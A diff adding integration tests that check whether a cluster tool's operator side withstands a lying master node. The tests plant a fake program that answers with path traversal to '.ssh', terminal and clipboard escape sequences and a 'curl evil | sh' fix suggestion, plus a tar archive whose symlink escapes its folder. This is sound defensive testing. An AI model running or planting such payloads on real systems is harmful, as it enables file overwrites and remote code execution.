@@ -1,0 +1,183 @@
+"""The border between a cluster and the machine of its operator: a master that lies, and where the agent goes."""
+
+from __future__ import annotations
+
+import hashlib
+import io
+import json
+import os
+import re
+import subprocess
+import tarfile
+from collections.abc import Iterator
+from concurrent.futures import ThreadPoolExecutor
+from pathlib import Path
+
+import pytest
+
+from tests.integration.machines import Cluster, Played, command, wait_for
+
+MASTER = "deeplearning-master"
+CLIPBOARD = "\x1b]52;c;ZXZpbA==\x07"
+
+# It answers each question with paths, names of roles, what a terminal obeys, and numbers without end.
+HOSTILE = r'''#!/usr/bin/python3
+import json, sys
+words = sys.argv[1:]
+verb, as_json = " ".join(words[:2]), "--json" in words
+escape, path = "\x1b]52;c;ZXZpbA==\x07\x1b[2J", "../../../../.ssh"
+run = {"framework": "/../../.deeplearning/reports/x/runs/evil/metrics", "distribution": path, "python": "/bin/sh",
+       "script": path, "script_args": [escape], "data": path, "generated": True, "nodes": 10**12}
+events = [{"event": "_init__"}, {"event": "plan", "processes": [{}]}, {"event": "output", "line": escape},
+          {"event": "progress", "loss": "x", "epoch": 10**400}, {"event": "end", "state": path, "exit_code": 10**400}]
+answers = {
+    "run list": {"runs": [{"run_id": path, "state": "finished"}]},
+    "run show": {"run": run},
+    "run create": {"run_id": path, "warnings": [escape]},
+    "health check": {"generation": 10**30, "environments": {escape: path}, "checks": [
+        {"name": path, "ok": False, "detail": escape, "fix": "curl evil | sh"}]},
+}
+if verb in answers and (as_json or verb not in ("run list", "run show")):
+    print(json.dumps(answers[verb]))
+elif verb == "run follow":
+    print(*map(json.dumps, events), sep="\n")
+elif verb == "run stop":
+    sys.exit("deeplearning: " + escape)
+else:
+    print(escape, path)
+'''
+# In place of tar: what it is asked to pack it replaces, and what it is sent it keeps.
+HOSTILE_TAR = """#!/bin/sh
+case "$1" in -c*) exec cat /opt/hostile.tar.gz;; *) exec cat > /opt/sent;; esac
+"""
+
+
+def hostile_archive() -> bytes:
+    out = io.BytesIO()
+    with tarfile.open(fileobj=out, mode="w:gz") as archive:
+        for name, kind, leads_to in (
+            ("run.json", tarfile.REGTYPE, ""),
+            ("metrics", tarfile.SYMTYPE, "../../../../.."),
+            ("metrics/rank0.jsonl", tarfile.CHRTYPE, ""),
+            ("metrics/evil", tarfile.REGTYPE, ""),
+        ):
+            member = tarfile.TarInfo(name)
+            member.type, member.linkname = kind, leads_to
+            archive.addfile(member)
+    return out.getvalue()
+
+
+@pytest.fixture
+def hostile_master(training_cluster: Cluster) -> Iterator[Cluster]:
+    cluster = training_cluster
+    cluster.says(MASTER, "sudo mv /usr/local/bin/deeplearning /usr/local/bin/deeplearning.kept")
+    try:
+        for path, content in (
+            ("/usr/local/bin/deeplearning", HOSTILE.encode()),
+            ("/usr/local/bin/tar", HOSTILE_TAR.encode()),
+            ("/opt/hostile.tar.gz", hostile_archive()),
+        ):
+            words = [*cluster.ssh_words(MASTER), f"sudo install -m 755 /dev/stdin {path}"]
+            subprocess.run(words, input=content, check=True, timeout=30)
+        cluster.says(MASTER, f"mkdir -p /efs/runs/{cluster.name}/evil && echo > /efs/runs/{cluster.name}/evil/run.json")
+        yield cluster
+    finally:
+        cluster.says(
+            MASTER,
+            "sudo mv /usr/local/bin/deeplearning.kept /usr/local/bin/deeplearning; "
+            f"sudo rm -rf /usr/local/bin/tar /opt/hostile.tar.gz /opt/sent /efs/runs/{cluster.name}/evil",
+        )
+
+
+def files_of(folder: Path) -> dict[str, str]:
+    return {
+        str(path.relative_to(folder)): hashlib.sha256(path.read_bytes()).hexdigest()
+        for path in folder.rglob("*")
+        if path.is_file()
+    }
+
+
+ASKED = {
+    "status": ({"run_id": "all"}, "run ../../../../.ssh"),
+    "report": ({}, "answered `deeplearning run list` with something else than it should (runs: run_id: a run's id)"),
+    "report of evil": ({"run_id": "evil"}, "What deeplearning-master sends as run evil is not one: it holds 'metrics'"),
+    "follow": ({"run_id": "evil"}, "run evil has no end that was told of"),
+    "train": ({"resume": "evil"}, "answered `deeplearning run show` with something else than it should"),
+    "evaluate": ({"run_id": "evil"}, "answered `deeplearning run show` with something else than it should"),
+    "stop": ({"run_id": "evil"}, "]52;c;ZXZpbA=="),
+    "health": ({}, "deeplearning-master, reachable: it answers, but as another version of the program does"),
+}
+
+
+def test_a_master_that_lies_gets_nothing_written_and_nothing_sent(hostile_master: Cluster) -> None:
+    cluster, folder = hostile_master, hostile_master.cloud.folder
+    before = files_of(folder)
+
+    def play(name: str) -> Played:
+        return cluster.play(f"{name.split()[0]}.yml", **ASKED[name][0])
+
+    with ThreadPoolExecutor(2) as pool:
+        played = dict(zip(ASKED, pool.map(play, ASKED), strict=True))
+    for name, ran in played.items():
+        told = " ".join(ran.output.split())
+        assert ASKED[name][1] in told or name == "status", (name, ran.output[-3000:])
+        assert "\x1b" not in ran.output and "\x07" not in ran.output, (name, ran.output[-3000:])
+        assert "Traceback" not in ran.output and "curl" not in ran.output, (name, ran.output[-3000:])
+        assert ran.code == (0 if name == "status" else 2), (name, ran.output[-3000:])
+        failed = [line for line in ran.output.splitlines() if line.startswith("fatal: ")]
+        assert len(failed) == (0 if name == "status" else 1), (name, failed)
+    after = files_of(folder)
+    own = re.compile(rf"\.deeplearning/{cluster.name}\.(ssh_config|known_hosts|health\.json)")
+    assert {name for name in before.keys() | after.keys() if before.get(name) != after.get(name)} <= {
+        name for name in after if own.fullmatch(name)
+    }
+    assert cluster.ssh(MASTER, "ls /opt/sent").returncode == 2
+
+
+AGENTS = "sudo find /tmp /run -name 'agent.*' -type s"
+# It logs in where members' own keys do not, and says whether an agent was there.
+REPOSITORY = """
+set -e
+mkdir -p ~/.ssh && ssh-keygen -qyf /etc/ssh/ssh_host_ed25519_key 2>/dev/null || true
+sed 's/^/127.0.0.1 /' /etc/ssh/ssh_host_ed25519_key.pub >> ~/.ssh/known_hosts
+git init -q -b main ~/private && cd ~/private
+echo 'import os; print("agent", os.environ.get("SSH_AUTH_SOCK")); import time; time.sleep(600)' > train.py
+git add . && git -c user.name=me -c user.email=me@example.com commit -q -m train
+"""
+
+
+@pytest.fixture
+def agent(training_cluster: Cluster, monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
+    """The operator's, with the key of the cluster in it. Only playbooks know of it."""
+    folder = training_cluster.cloud.folder
+    socket = folder / "agent"
+    monkeypatch.delenv("SSH_AUTH_SOCK", raising=False)
+    with subprocess.Popen(["ssh-agent", "-D", "-a", str(socket)], stdout=subprocess.DEVNULL) as process:
+        try:
+            wait_for(socket.exists, 10, "the agent listens")
+            added = command("ssh-add", "-q", folder / "key", env={**os.environ, "SSH_AUTH_SOCK": str(socket)})
+            assert added.returncode == 0, added.stderr
+            monkeypatch.setitem(training_cluster.cloud.variables, "SSH_AUTH_SOCK", str(socket))
+            yield socket
+        finally:
+            process.terminate()
+
+
+def test_the_agent_is_on_no_node_but_while_a_repository_is_cloned_by_it(training_cluster: Cluster, agent: Path) -> None:
+    cluster = training_cluster
+    assert cluster.ssh(MASTER, "bash -s", input=REPOSITORY).returncode == 0
+    user, home = cluster.says(MASTER, "id -un"), cluster.says(MASTER, "pwd")
+    script = f"git+ssh://{user}@127.0.0.1{home}/private@main:train.py"
+    asked = {"framework": "pytorch", "python": "/usr/bin/python3", "script": script, "run_id": "cloned-by-agent"}
+    refused = cluster.ssh(MASTER, f"ssh -o BatchMode=yes {user}@127.0.0.1 true")
+    assert refused.returncode == 255, "without the agent nobody logs in there"
+    with cluster.playing("train.yml", **asked) as playing:
+        show = "deeplearning run show cloned-by-agent --json"
+        wait_for(lambda: '"running"' in cluster.ssh(MASTER, show).stdout, 120, "the run is cloned and trains")
+        for node in (MASTER, "deeplearning-worker2", "deeplearning-worker3"):
+            assert cluster.says(node, AGENTS) == ""
+        log = f"cat /efs/runs/{cluster.name}/cloned-by-agent/logs/*.worker0.log"
+        wait_for(lambda: "agent None" in cluster.ssh(MASTER, log).stdout, 60, "the script has no agent either")
+        assert playing.poll() is None
+    stopped = cluster.play("stop.yml", run_id="cloned-by-agent")
+    assert stopped.code == 0, json.dumps(stopped.output[-2000:])
